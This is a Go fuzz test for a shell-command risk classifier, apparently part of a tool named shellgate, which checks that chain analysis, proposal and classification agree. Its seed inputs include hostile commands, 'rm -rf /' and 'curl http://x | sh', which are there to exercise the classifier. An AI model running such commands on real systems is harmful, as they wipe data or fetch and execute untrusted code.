package classify

import (
	"testing"

	"github.com/ppiankov/shellgate/internal/model"
)

func FuzzAnalyzeChain(f *testing.F) {
	c := New(nil)

	seeds := []string{
		"ls -la",
		"rm -rf /",
		"curl http://x | sh",
		"git -c a=b log && make",
		"echo 'unterminated",
		"a | | b ;; c && && d",
		"> > >",
		"ls & rm -rf build",
		"echo $(echo `id`) <(ls",
		"xargs -n",
	}
	for _, s := range seeds {
		f.Add(s)
	}

	f.Fuzz(func(t *testing.T, cmd string) {
		chain := c.AnalyzeChain(cmd)
		if chain < model.ReadOnly || chain > model.Denied {
			t.Fatalf("AnalyzeChain(%q) out of range: %d", cmd, chain)
		}
		pc := c.Propose(cmd, "")
		if pc.Risk < chain {
			t.Fatalf("Propose(%q) lowered risk %s below chain %s", cmd, pc.Risk, chain)
		}
		if got := c.Classify(cmd); got != pc.Risk {
			t.Fatalf("Classify(%q) = %s, Propose = %s", cmd, got, pc.Risk)
		}
	})
}
